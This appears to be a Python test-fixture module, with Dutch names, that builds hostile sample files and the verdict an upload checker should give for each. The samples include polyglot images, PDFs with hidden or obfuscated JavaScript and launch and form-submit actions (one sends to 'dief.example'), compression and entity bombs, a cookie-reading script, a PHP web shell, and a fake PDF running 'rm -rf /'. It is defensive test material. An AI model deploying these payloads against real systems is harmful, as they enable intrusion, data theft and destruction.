"""Files that come from bad intentions, or from not knowing better: name -> (content, what the sender reads).

All are made here. Each is a file that once did harm somewhere, or could: to whoever opens it, to the browser that
shows it, or to the machine that inspects it.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import zipfile
import zlib
from base64 import b64decode

from documenten.keuring import beeld, herkennen, pdf, weigering
from ontwikkel.demo.papieren import bundel, deel, png, stroom
from ontwikkel.demo.papieren import pdf as maak_pdf

# A grey square of 8 by 8.
JPG = b64decode(
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////"
    "////////wAALCAAIAAgBAREA/8QAFAABAAAAAAAAAAAAAAAAAAAAAf/EABQQAQAAAAAAAAAAAAAAAAAAAAD/2gAIAQEAAD8AH//Z"
)
PNG = png(40, 30)
PDF = maak_pdf("RSZ-attest", ["De onderneming heeft geen achterstallige bijdragen."])
HTML = b"<html><script>alert(document.cookie)</script></html>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def ingepakt(*namen: str, inhoud: bytes = b"x", manier: int = zipfile.ZIP_DEFLATED) -> bytes:
    uit = io.BytesIO()
    with zipfile.ZipFile(uit, "w", manier) as map_:
        for naam in namen:
            map_.writestr(naam, inhoud)
    return uit.getvalue()


def met(catalogus: bytes, *objecten: bytes) -> bytes:
    """A PDF with this in its catalog, and more objects from number 4 on."""
    basis = (b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")
    return bundel([b"<</Type/Catalog/Pages 2 0 R%b>>" % catalogus, *basis, *objecten])


def pakje(inhoud: bytes, sleutels: bytes = b"/Type/ObjStm/N 1/First 4") -> bytes:
    """A PDF with an object packed in an object stream."""
    return met(b"", stroom(b"9 0 " + inhoud, sleutels))


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
HEX = (b"9 0 " + SCRIPT).hex().encode() + b">"


def ongewoon(filter_: bytes, gegevens: bytes, slot: bytes = b"\nendstream") -> bytes:
    """A PDF whose object stream is packed in another way than anybody packs it."""
    kop = b"<</Type/ObjStm/N 1/First 4%b/Length %d>>\nstream\n" % (filter_, len(gegevens))
    return met(b"", kop + gegevens + slot)


def vervang_kader(soort: int, hoogte: int = 8, breedte: int = 8) -> bytes:
    """The JPG with another frame: its kind and its measures."""
    plaats = JPG.index(b"\xff\xc0")
    kop = JPG[:plaats] + bytes([0xFF, soort]) + JPG[plaats + 2 : plaats + 5]
    return kop + struct.pack(">HH", hoogte, breedte) + JPG[plaats + 9 :]


def met_commentaar(tekst: bytes) -> bytes:
    """The JPG with a comment."""
    return JPG[:2] + b"\xff\xfe" + struct.pack(">H", len(tekst) + 2) + tekst + JPG[2:]


def png_van(*delen: bytes) -> bytes:
    return PNG[:8] + b"".join(delen)


def kop(breedte: int, hoogte: int) -> bytes:
    return deel(b"IHDR", struct.pack(">IIBBBBB", breedte, hoogte, 8, 2, 0, 0, 0))


PUNTEN, EINDE = deel(b"IDAT", zlib.compress(b"\0\0\0\0")), deel(b"IEND", b"")
HEIC = b"\0\0\0\x18ftypheic" + b"\0" * 40

ANDERE_SOORTEN = {
    "brief.docx": (ingepakt("[Content_Types].xml", "word/document.xml"), herkennen.OFFICE),
    "macro.docm": (ingepakt("[Content_Types].xml", "word/vbaProject.bin"), herkennen.OFFICE),
    "macro.xlsm.pdf": (ingepakt("[Content_Types].xml", "xl/vbaProject.bin"), herkennen.OFFICE),
    "voorstelling.pptx": (ingepakt("ppt/presentation.xml"), herkennen.OFFICE),
    "tekst.odt": (ingepakt("mimetype", manier=zipfile.ZIP_STORED), herkennen.OFFICE),
    "oud.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, herkennen.OFFICE),
    "brief.rtf": (b"{\\rtf1\\ansi{\\object\\objocx}}", herkennen.OFFICE),
    "map.zip": (ingepakt("een.pdf", "twee.pdf"), herkennen.INPAK),
    "bom.zip": (ingepakt("nullen", inhoud=bytes(10**7)), herkennen.INPAK),
    "programma.jar": (ingepakt("META-INF/MANIFEST.MF", "Aanval.class"), herkennen.INPAK),
    "map.rar": (b"Rar!\x1a\x07\x01\0" + b"\0" * 40, herkennen.INPAK),
    "map.7z": (b"7z\xbc\xaf'\x1c" + b"\0" * 40, herkennen.INPAK),
    "attest.pdf.gz": (gzip.compress(PDF), herkennen.INPAK),
    "attest.pdf.bz2": (bz2.compress(PDF), herkennen.INPAK),
    "attest.pdf.xz": (lzma.compress(PDF), herkennen.INPAK),
    "attest.pdf.exe": (b"MZ\x90\0" + b"\0" * 200, herkennen.PROGRAMMA),
    "linux.pdf": (b"\x7fELF\x02\x01\x01" + b"\0" * 200, herkennen.PROGRAMMA),
    "mac.pdf": (b"\xcf\xfa\xed\xfe" + b"\0" * 200, herkennen.PROGRAMMA),
    "klasse.pdf": (b"\xca\xfe\xba\xbe\0\0\0\x41", herkennen.PROGRAMMA),
    "script.pdf": (b"#!/bin/sh\nrm -rf /\n", herkennen.PROGRAMMA),
    "pagina.pdf": (HTML, herkennen.WEB),
    "pagina.png": (b"\xef\xbb\xbf  \n<!DOCTYPE html>" + HTML, herkennen.WEB),
    "tekening.png": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", herkennen.WEB),
    "tekening.svg": (b"<?xml version='1.0'?><svg><script>alert(1)</script></svg>", herkennen.WEB),
    "bom.xml": (b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'a'><!ENTITY b '&a;&a;'>]><l>&b;</l>", herkennen.WEB),
    "foto.gif": (b"GIF89a\x01\0\x01\0\x80\0\0" + HTML, herkennen.ANDER_BEELD),
    "foto.bmp": (b"BM\x46\0\0\0\0\0\0\0" + b"\0" * 60, herkennen.ANDER_BEELD),
    "fax.tif": (b"II*\0" + b"\0" * 60, herkennen.ANDER_BEELD),
    "fax.tiff": (b"MM\0*" + b"\0" * 60, herkennen.ANDER_BEELD),
    "foto.webp": (b"RIFF\x24\0\0\0WEBPVP8 ", herkennen.ANDER_BEELD),
    "IMG_0001.HEIC": (HEIC, herkennen.HEIC),
    "foto.avif": (HEIC.replace(b"heic", b"avif"), herkennen.HEIC),
    "film.pdf": (HEIC.replace(b"heic", b"isom"), herkennen.ONBEKEND),
    "eicar.com": (EICAR, herkennen.TEKST),
    "mail.eml": (b"From: jan@firma.example\r\nSubject: attest\r\n\r\nIn bijlage.", herkennen.TEKST),
    "deur.php": (b"<?php system($_GET['c']); ?>", herkennen.TEKST),
    "ruis.pdf": (bytes(range(256)) * 4, herkennen.ONBEKEND),
    "later.pdf": (b"\n\n" + PDF, herkennen.ONBEKEND),
}
PDFS = {
    "half.pdf": (PDF[: len(PDF) // 2], weigering.KAPOT),
    "kop.pdf": (b"%PDF-1.7\n", weigering.KAPOT),
    "versie.pdf": (PDF.replace(b"%PDF-1.7", b"%PDF-X.Y"), weigering.KAPOT),
    "en-zip.pdf": (PDF + ingepakt("Aanval.class"), weigering.VERBORGEN),
    "en-html.pdf": (PDF + HTML, weigering.VERBORGEN),
    "zip-erin.pdf": (met(b"", b"<</A 1>>\nstream\n" + ingepakt("a") + b"\nendstream"), weigering.VERBORGEN),
    "7z-erin.pdf": (met(b"", b"<</A 1>>\nstream\n7z\xbc\xaf'\x1c\nendstream"), weigering.VERBORGEN),
    "html-vooraan.pdf": (PDF.replace(b"\n", b"\n" + HTML + b"\n", 1), weigering.VERBORGEN),
    "wachtwoord.pdf": (PDF.replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 6 0 R"), pdf.BEVEILIGD),
    "js.pdf": (met(b"/OpenAction" + SCRIPT), pdf.ACTIEF),
    "js-nummers.pdf": (met(b"/OpenAction<</S/J#61va#53cript/JS(x)>>"), pdf.ACTIEF),
    "js-alles-nummers.pdf": (
        met(b"/Names<</" + b"".join(b"#%02x" % c for c in b"JavaScript") + b" 9 0 R>>"),
        pdf.ACTIEF,
    ),
    "js-boom.pdf": (met(b"/Names<</JavaScript<</Names[(a)4 0 R]>>>>", SCRIPT), pdf.ACTIEF),
    "js-achter-het-einde.pdf": (PDF + b"7 0 obj" + SCRIPT + b"endobj\nstartxref\n9\n%%EOF\n", pdf.ACTIEF),
    "js-ingepakt.pdf": (pakje(SCRIPT), pdf.ACTIEF),
    "js-ingepakt-naamloos.pdf": (pakje(SCRIPT, b"/N 1/First 4"), pdf.ACTIEF),
    "js-ingepakt-nummers.pdf": (pakje(SCRIPT, b"/Type/O#62jStm/N 1/#46irst 4"), pdf.ACTIEF),
    "js-ingepakt-na-tekst.pdf": (pakje(SCRIPT, b"/A((\\) 1 0 obj)<<)/B[<</C/D>>]/Type/ObjStm/N 1/First 4"), pdf.ACTIEF),
    "js-ingepakt-na-commentaar.pdf": (pakje(SCRIPT, b"%>>\n/Type/ObjStm/N 1/First 4"), pdf.ACTIEF),
    "js-in-een-ander-object.pdf": (
        met(b"", b"<</A(" + stroom(b"9 0 " + SCRIPT, b"/N 1/First 4") + b")>>"),
        pdf.ONLEESBAAR,
    ),
    "js-voorspeld.pdf": (pakje(SCRIPT, b"/Type/ObjStm/N 1/First 4/DecodeParms<</Predictor 12>>"), pdf.ONLEESBAAR),
    "js-hex.pdf": (ongewoon(b"/Filter/ASCIIHexDecode", HEX), pdf.ONLEESBAAR),
    "js-dubbel.pdf": (
        ongewoon(b"/Filter[/FlateDecode/FlateDecode]", zlib.compress(zlib.compress(b"9 0 " + SCRIPT))),
        pdf.ONLEESBAAR,
    ),
    "js-los.pdf": (ongewoon(b"", b"9 0 <</S/J#61vaScript>>"), pdf.ACTIEF),
    "pak-verwijzing.pdf": (ongewoon(b"/Filter 8 0 R", zlib.compress(b"9 0 " + SCRIPT)), pdf.ONLEESBAAR),
    "pak-geen-inhoud.pdf": (
        ongewoon(b"/Filter/FlateDecode", zlib.compress(SCRIPT.replace(b"/", b"/ "))),
        pdf.ONLEESBAAR,
    ),
    "pak-half.pdf": (ongewoon(b"/Filter/FlateDecode", zlib.compress(b"9 0 " + SCRIPT)[:-6]), pdf.ONLEESBAAR),
    "pak-zonder-einde.pdf": (
        ongewoon(b"/Filter/FlateDecode", zlib.compress(b"9 0 " + SCRIPT)[:-6], b""),
        pdf.ONLEESBAAR,
    ),
    "pak-stuk.pdf": (ongewoon(b"/Filter/FlateDecode", b"geen zlib"), pdf.ONLEESBAAR),
    "pak-bom.pdf": (pakje(bytes(70 * 1024**2)), pdf.ONLEESBAAR),
    "pak-bommen.pdf": (met(b"", *[stroom(b"9 0 " + bytes(25 * 1024**2), b"/N 1/First 4")] * 4), pdf.ONLEESBAAR),
    "wirwar.pdf": (met(b"", b"<</First<<" * 200), pdf.ONLEESBAAR),
    "wirwar-tekst.pdf": (met(b"", b"<</First(" + b"(" * 200), pdf.ONLEESBAAR),
    "wirwar-haken.pdf": (met(b"", b"<</First[>>"), pdf.ONLEESBAAR),
    "wirwar-traag.pdf": (met(b"", b"1 0 obj<</First(" * 4000 + b")>>" * 4000), pdf.ONLEESBAAR),
    "start.pdf": (met(b"/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>"), pdf.ACTIEF),
    "verzend.pdf": (met(b"/OpenAction<</S/SubmitForm/F(https://dief.example)>>"), pdf.ACTIEF),
    "haal-in.pdf": (met(b"/AA<</O<</S/ImportData/F(x)>>>>"), pdf.ACTIEF),
    "film-erin.pdf": (met(b"/OpenAction<</S/Rendition/OP 0>>"), pdf.ACTIEF),
    "bijlage.pdf": (met(b"/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>", b"<</Type/Filespec>>"), pdf.BIJLAGE),
    "bijlage-los.pdf": (met(b"", stroom(b"MZ", b"/Type/EmbeddedFile")), pdf.BIJLAGE),
    "bijlage-speld.pdf": (met(b"", b"<</Subtype/FileAttachment>>"), pdf.BIJLAGE),
    "bijlage-sprong.pdf": (met(b"/OpenAction<</S/GoToE/T<</R/C>>>>"), pdf.BIJLAGE),
    "flash.pdf": (met(b"", b"<</Subtype/RichMedia>>"), pdf.BIJLAGE),
    "xfa.pdf": (met(b"/AcroForm<</XFA 4 0 R>>", stroom(b"<xdp/>")), pdf.XFA),
    "lzw.pdf": (met(b"", b"<</Filter/LZWDecode>>\nstream\nx\nendstream"), pdf.ONLEESBAAR),
    "lengtes.pdf": (met(b"", b"<</Filter[/RunLengthDecode/FlateDecode]>>\nstream\nx\nendstream"), pdf.ONLEESBAAR),
}
BEELDEN = {
    "half.png": (PNG[:-20], weigering.KAPOT),
    "merk.png": (PNG[:8], weigering.KAPOT),
    "vervalst.png": (PNG.replace(b"IDAT", b"IDAT\xff", 1), weigering.KAPOT),
    "geen-naam.png": (png_van(kop(2, 2), deel(b"ab 1", b""), PUNTEN, EINDE), weigering.KAPOT),
    "geen-punten.png": (png_van(kop(2, 2), EINDE), weigering.KAPOT),
    "geen-kop.png": (png_van(PUNTEN, EINDE), weigering.KAPOT),
    "twee-koppen.png": (png_van(kop(2, 2), kop(2, 2), PUNTEN, EINDE), weigering.KAPOT),
    "korte-kop.png": (png_van(deel(b"IHDR", b"\0\0\0\1"), PUNTEN, EINDE), weigering.KAPOT),
    "geen-breedte.png": (png_van(kop(0, 2), PUNTEN, EINDE), weigering.KAPOT),
    "bom.png": (png_van(kop(60_000, 60_000), deel(b"IDAT", zlib.compress(bytes(10**6))), EINDE), beeld.TE_GROOT),
    "vreemd.png": (png_van(kop(2, 2), deel(b"QAAN", b""), PUNTEN, EINDE), beeld.NIET_TE_TONEN),
    "en-zip.png": (PNG + ingepakt("a"), weigering.VERBORGEN),
    "en-php.png": (PNG + b"<?php system('id');", weigering.VERBORGEN),
    "html-erin.png": (png_van(kop(2, 2), deel(b"tEXt", b"Comment\0" + HTML), PUNTEN, EINDE), weigering.VERBORGEN),
    "half.jpg": (JPG[:-2], weigering.KAPOT),
    "kwart.jpg": (JPG[:40], weigering.KAPOT),
    "merk.jpg": (JPG[:3], weigering.KAPOT),
    "geen-kader.jpg": (JPG[: JPG.index(b"\xff\xc0")] + b"\xff\xd9", weigering.KAPOT),
    "twee-keer-begonnen.jpg": (JPG[:2] + JPG, weigering.KAPOT),
    "lengte-nul.jpg": (JPG[:4] + b"\0\0" + JPG[6:], weigering.KAPOT),
    "kort-kader.jpg": (JPG[:2] + b"\xff\xc0\0\x04\0\0" + JPG[2:], weigering.KAPOT),
    "kader-liegt.jpg": (JPG[:2] + b"\xff\xc0\0\x0b\x08\0\x08\0\x08\x03\0\0\0" + JPG[2:], weigering.KAPOT),
    "geen-hoogte.jpg": (vervang_kader(0xC0, hoogte=0), weigering.KAPOT),
    "bom.jpg": (vervang_kader(0xC0, 65_000, 65_000), beeld.TE_GROOT),
    "verliesvrij.jpg": (vervang_kader(0xC3), beeld.NIET_TE_TONEN),
    "html-erin.jpg": (met_commentaar(HTML), weigering.VERBORGEN),
    "pdf-erin.jpg": (met_commentaar(PDF), weigering.VERBORGEN),
    "en-zip.jpg": (JPG + ingepakt("a"), weigering.VERBORGEN),
    "en-rar.jpg": (JPG + b"Rar!\x1a\x07\0", weigering.VERBORGEN),
}  # fmt: skip
VIJANDIG = ANDERE_SOORTEN | PDFS | BEELDEN
